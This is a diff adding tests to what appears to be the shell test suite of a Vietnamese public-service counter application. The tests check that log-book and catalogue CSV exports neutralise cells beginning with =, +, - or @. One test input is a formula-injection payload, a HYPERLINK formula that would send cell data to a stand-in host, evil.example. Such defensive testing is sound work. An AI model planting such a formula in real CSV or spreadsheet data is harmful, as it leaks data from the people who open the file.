@@ -173,6 +173,31 @@ $M counter refuse --procedure 1.000843 --applicant-name X > /dev/null 2> "$MOTCU
 check "a refusal without a reason is INVALID_ARGUMENT on reason" \
     bash -c "[ $rc = 1 ] && grep -q 'INVALID_ARGUMENT (reason)' '$MOTCUA_VAR/err.txt'"
 
+# CSV cells a spreadsheet would run as formulas are neutralised (issue 13).
+evil='=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+$M counter submit --json --procedure 1.000843 --applicant-name "$evil" --applicant-id 042190007777 \
+    --phone 0912777777 --address "@SUM(1+1)" --component "-2+3" > /dev/null
+sleep 0.5
+$M report logbook --from "$today" --to "$today" --csv "$MOTCUA_VAR/logbook.csv" > /dev/null
+check "the log book CSV has the formula-named applicant, neutralised as text for python3's csv module" python3 -c "
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], encoding='utf-8')))
+cells = [c for r in rows for c in r]
+name = [c for c in cells if 'HYPERLINK' in c]
+assert name and all(c.startswith(\"'=\") for c in name), name
+assert not any(c[:1] in '=+@' or (c[:1] == '-' and not c[1:].replace('.', '').isdigit()) for c in cells if c), [c for c in cells if c[:1] in '=+-@']
+" "$MOTCUA_VAR/logbook.csv"
+header=$(grep -m 1 '^code,' deploy/catalog/home-affairs.csv)
+printf '%s\n%s\n' "$header" \
+    'H27.NV.904,2026-01-01,,province,=Thủ tục công thức,+Thử nghiệm,H27.22,tdkt,1,working_days,,,,none,,,,document,no,no,Giải quyết@tdkt:8,-' \
+    > "$MOTCUA_VAR/catalog-formula.csv"
+check "a catalogue row whose texts begin with = + - is imported" bash -c "$M catalog import '$MOTCUA_VAR/catalog-formula.csv' | grep -q ' 1 version(s) added'"
+$M catalog export "$MOTCUA_VAR/catalog-f1.csv" > /dev/null
+check "its export neutralises them (\"'=Thủ tục công thức\")" grep -q "\"'=Thủ tục công thức\",\"'+Thử nghiệm\"" "$MOTCUA_VAR/catalog-f1.csv"
+check "and catalog import reads its own export back unchanged" bash -c \
+    "$M catalog import '$MOTCUA_VAR/catalog-f1.csv' | grep -q ' 0 version(s) added, 0 changed' \
+     && $M catalog export '$MOTCUA_VAR/catalog-f2.csv' > /dev/null && cmp -s '$MOTCUA_VAR/catalog-f1.csv' '$MOTCUA_VAR/catalog-f2.csv'"
+
 check "make down's script stops everything" deploy/down.sh
 $M health > /dev/null 2>&1; rc=$?
 check "after down, health says nobody answers (exit 3)" test "$rc" = 3
